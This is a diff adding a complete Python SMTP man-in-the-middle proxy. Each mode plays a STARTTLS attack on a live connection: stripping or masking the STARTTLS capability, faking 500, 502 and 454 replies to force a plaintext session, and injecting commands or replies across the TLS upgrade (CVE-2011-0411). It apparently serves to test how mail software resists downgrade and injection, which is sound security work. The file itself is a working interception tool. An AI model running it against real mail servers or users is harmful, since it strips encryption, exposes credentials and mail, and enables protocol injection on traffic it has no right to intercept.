@@ -1,0 +1,153 @@
+#!/usr/bin/env python3
+"""A man on the path between an SMTP client and a real server: forwards a connection and plays one named attack.
+
+    rewriter.py ATTACK LISTEN-ADDRESS LISTEN-PORT SERVER-ADDRESS SERVER-PORT
+
+Placed beside the server the tap sees what the client is made to believe; placed beside the client it sees what the
+server is made to believe. It serves one connection after the other until it is killed.
+"""
+import re
+import select
+import socket
+import sys
+
+
+def strip(text):
+    """Removes STARTTLS from an EHLO reply and repairs its last line."""
+    lines = [l for l in text.split(b"\r\n") if not re.fullmatch(rb"250[- ]STARTTLS", l)]
+    if len(lines) > 1 and lines[-1] == b"" and lines[-2].startswith(b"250-"):
+        lines[-2] = b"250 " + lines[-2][4:]
+    return b"\r\n".join(lines)
+
+
+def mask(text):
+    """What a firewall with SMTP inspection makes of a banner and of keywords that it does not know."""
+    if text.startswith(b"220 ") and b"ESMTP" in text:
+        return re.sub(rb"[^ 20\r\n]", b"*", text)
+    return re.sub(rb"(?m)^(250[- ])(STARTTLS|CHUNKING|SMTPUTF8)\r", lambda m: m[1] + b"X" * (len(m[2]) - 1) + b"A\r", text)
+
+
+class Path:
+    """What an attack may do: hooks get the octets of one read and give what is passed on."""
+
+    def __init__(self, client, server):
+        self.client, self.server = client, server
+        self.tls = False
+
+    def from_client(self, text):
+        """Towards the server."""
+        return text
+
+    def from_server(self, text):
+        """Towards the client."""
+        return text
+
+
+class Strip(Path):
+    """STARTTLS is removed from the EHLO reply."""
+
+    def from_server(self, text):
+        return strip(text)
+
+
+class Mask(Path):
+    """Banner and keywords are overwritten in place."""
+
+    def from_server(self, text):
+        return mask(text)
+
+
+class Reject500(Path):
+    """STARTTLS is answered by the man on the path, and the server never sees it."""
+    reply = b"500 Unsupported command.\r\n"
+
+    def from_client(self, text):
+        if text.upper() != b"STARTTLS\r\n":
+            return text
+        self.client.sendall(self.reply)
+        return b""
+
+
+class RefuseEhlo(Reject500):
+    """EHLO is answered 502, so that the client falls back to HELO."""
+
+    def from_client(self, text):
+        if not text.upper().startswith(b"EHLO"):
+            return text
+        self.client.sendall(b"502 5.5.1 Command not implemented\r\n")
+        return b""
+
+
+class Mangle(Path):
+    """STARTTLS is overwritten on its way to the server."""
+
+    def from_client(self, text):
+        return text.replace(b"STARTTLS\r\n", b"XXXXXXXX\r\n")
+
+
+class Swallow(Path):
+    """The server is let into TLS, and the client is told that there is none."""
+    asked = False
+
+    def from_client(self, text):
+        self.asked = self.asked or text.upper() == b"STARTTLS\r\n"
+        return text
+
+    def from_server(self, text):
+        if self.asked and text.startswith(b"220 "):
+            self.asked = False
+            return b"454 4.7.0 TLS not available due to temporary reason\r\n"
+        return text
+
+
+class InjectCommand(Path):
+    """A command is put behind STARTTLS, in clear, for the server to read inside TLS (CVE-2011-0411)."""
+
+    def from_client(self, text):
+        return text.replace(b"STARTTLS\r\n", b"STARTTLS\r\nEHLO injected.example\r\n")
+
+
+class InjectResponse(Path):
+    """A reply is put behind the 220, in clear, for the client to read inside TLS."""
+
+    def from_server(self, text):
+        ready = text.startswith(b"220 ") and b"ESMTP" not in text
+        return text + b"250-injected.example\r\n250 AUTH PLAIN\r\n" if ready else text
+
+
+ATTACKS = {"strip": Strip, "mask": Mask, "reject-500": Reject500, "refuse-ehlo": RefuseEhlo, "mangle": Mangle,
+           "swallow": Swallow, "inject-command": InjectCommand, "inject-response": InjectResponse}
+
+
+def is_tls(octets):
+    """Handshake records are passed on as they are."""
+    return len(octets) > 2 and octets[0] in (20, 21, 22, 23) and octets[1] == 3
+
+
+def pump(path):
+    """Passes octets on until one side ends."""
+    sides = {path.client: (path.server, path.from_client), path.server: (path.client, path.from_server)}
+    while True:
+        for here in select.select(list(sides), [], [])[0]:
+            there, hook = sides[here]
+            octets = here.recv(65536)
+            if not octets:
+                return
+            path.tls = path.tls or is_tls(octets)
+            there.sendall(octets if path.tls else hook(octets))
+
+
+def main():
+    attack, address, port, to_address, to_port = sys.argv[1:]
+    with socket.create_server((address, int(port))) as listener:
+        while True:
+            client, _ = listener.accept()
+            with client, socket.create_connection((to_address, int(to_port))) as server:
+                try:
+                    pump(ATTACKS[attack](client, server))
+                except OSError:
+                    pass  # one side was reset: so is the path
+
+
+if __name__ == "__main__":
+    main()
